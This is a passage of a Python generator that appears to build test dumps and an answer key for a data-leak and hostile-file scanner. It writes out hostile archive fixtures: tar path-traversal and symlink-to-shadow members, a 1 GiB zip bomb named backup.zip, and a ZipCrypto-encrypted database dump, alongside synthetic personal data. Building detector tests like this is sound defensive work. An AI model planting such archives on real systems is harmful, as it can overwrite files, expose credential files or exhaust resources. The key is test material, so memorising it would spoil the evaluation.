    r = put(WEB + "/tmp/site-export.tar", t)
    key("tar_traversal", r, None, alerts_under=["path_traversal"], planted_under=pl(tp, ssn=False, phone=True))
    key("tar_traversal_root", r, [], verdict="hostile")
    key("tar_symlink_shadow", r, ["site/shadow"], alerts_all=["symlink", "absolute_path"])
    # a zip bomb named backup.zip, a real member after it
    bp = person()
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf:
        zi = zipfile.ZipInfo("backup/db.sql", (2014, 11, 24, 8, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(zi, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(1024):
                f.write(chunk)
        zi2 = zipfile.ZipInfo("backup/readme.txt", (2014, 11, 24, 8, 0, 0))
        zf.writestr(zi2, ("contact %s\n" % bp["email"]).encode())
    r = put(HTML + "/backup.zip", z.getvalue())
    key("zip_bomb_alert", r, None, alerts_under=["zip_bomb"], planted_under=pl(bp, ssn=False))
    key("zip_bomb_root_hostile", r, [], verdict="hostile", alerts_all=["zip_bomb"])
    # a ZipCrypto zip of the database dump
    secret = (HEAD % "shop" + orders_sql([person()])).encode()
    import zlib
    crc = zlib.crc32(secret)
    enc = gh._ZipCrypto(b"shop2014").encrypt(bytes(range(11)) + bytes([crc >> 24]) + secret)
    zc = gh.raw_zip([(b"shop.sql", enc, 0, crc, len(secret), 1)])
    r = put(HOME + "/backups/shop-db-encrypted.zip", zc)
    key("zipcrypto_member", r, ["shop.sql"], coverage="none", reasons_all=["encrypted"])
    key("zipcrypto_alert", r, None, alerts_under=["encrypted"])


def generate(out):
    """Build OUT/dump and OUT/key.json; return the key."""
    global R
    R = random.Random(1518)
    return D.generate(out, (config_cases, db_cases, log_cases, skimmer_cases, export_cases, hostile_cases))


if __name__ == "__main__":
    hc.main(generate)
